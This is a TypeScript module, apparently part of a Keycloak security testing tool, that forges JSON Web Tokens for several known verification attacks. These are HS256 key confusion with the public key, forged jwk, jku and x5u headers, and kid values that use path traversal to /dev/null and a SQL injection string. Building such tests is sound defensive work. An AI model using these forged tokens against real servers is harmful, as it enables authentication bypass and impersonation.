import { createHmac, createPublicKey } from 'node:crypto'

import { type JWK, SignJWT } from 'jose'

import { command } from '../config/command.ts'
import { McpKeycloakError } from '../errors.ts'
import { type DecodedToken, decodeToken } from './decode-token.ts'
import type { KeyServer } from './key-server.ts'

/** A token that tells the server, in its header, how to verify it. A server must not obey. */
export type AttackKind = 'hs256' | 'jwk' | 'jku' | 'x5u' | 'kid'

/** A key that everyone can have. */
type OfferedKey = Pick<KeyServer, 'url' | 'privateKey' | 'jwk'>

/** The `kid` values that lead a careless server to a key that everyone knows, with that key. */
const KNOWN_KEYS: readonly (readonly [kid: string, key: string])[] = [
  ['../../../../../../../../dev/null', ''],
  ["x' UNION SELECT 'mcp-keycloak' -- ", 'mcp-keycloak'],
]

/**
 * Creates tokens with the claims of a good token, signed with a key that everyone can have.
 *
 * @param keys the realm's public keys
 * @param offered the key at the URL of `jku` and `x5u`; without it, there are no such tokens
 * @throws {McpKeycloakError} `TOKEN_WRONG` when the claims cannot be read or signed
 * @see {@link https://www.rfc-editor.org/rfc/rfc8725.html#section-3.1 RFC 8725 §3.1}
 */
export async function attackTokens(
  kind: AttackKind,
  goodToken: string,
  { keys, offered }: { readonly keys: readonly JWK[]; readonly offered?: OfferedKey | undefined },
): Promise<readonly string[]> {
  const good = decodeToken(goodToken)
  try {
    return await signed(kind, good, keys, offered)
  } catch (cause) {
    throw new McpKeycloakError('TOKEN_WRONG', {
      what: `No token for the attack "${kind}" can be created from this token.`,
      why: `${(cause as Error).message}.`,
      fix: `Look at its claims: ${command('token', { decode: true })}`,
      cause,
    })
  }
}

async function signed(
  kind: AttackKind,
  good: DecodedToken,
  keys: readonly JWK[],
  offered: OfferedKey | undefined,
): Promise<readonly string[]> {
  if (kind === 'hs256')
    return publicKeyTexts(good, keys).map((text) => signedWith(text, good, good.header.kid))
  if (kind === 'kid') return KNOWN_KEYS.map(([kid, key]) => signedWith(key, good, kid))
  if (offered === undefined) return []
  const { jwk, url, privateKey } = offered
  const header = kind === 'jwk' ? { jwk } : { [kind]: `${url}/${kind}`, kid: jwk.kid }
  const { typ } = good.header
  const signer = new SignJWT(good.claims).setProtectedHeader({ alg: 'RS256', ...(typ && { typ }), ...header })
  return [await signer.sign(privateKey)]
}

/** The spellings of a public key that servers are configured with. */
function publicKeyTexts({ header }: DecodedToken, keys: readonly JWK[]): readonly string[] {
  const jwk = keys.find(({ kid }) => kid === header.kid) ?? keys.find(({ use }) => use === 'sig')
  if (!jwk) return []
  const pem = `${createPublicKey({ key: { ...jwk }, format: 'jwk' }).export({ type: 'spki', format: 'pem' })}`
  const base64 = pem.replace(/-----[^-]+-----|\s/g, '')
  return [pem, pem.trimEnd(), base64]
}

/** Signs with HMAC by hand, because the library refuses an empty key. */
function signedWith(key: string, { claims, header }: DecodedToken, kid: unknown): string {
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
  const { typ = 'JWT' } = header
  const signed = `${part({ alg: 'HS256', typ, ...(kid !== undefined && { kid }) })}.${part(claims)}`
  return `${signed}.${createHmac('sha256', key).update(signed).digest('base64url')}`
}
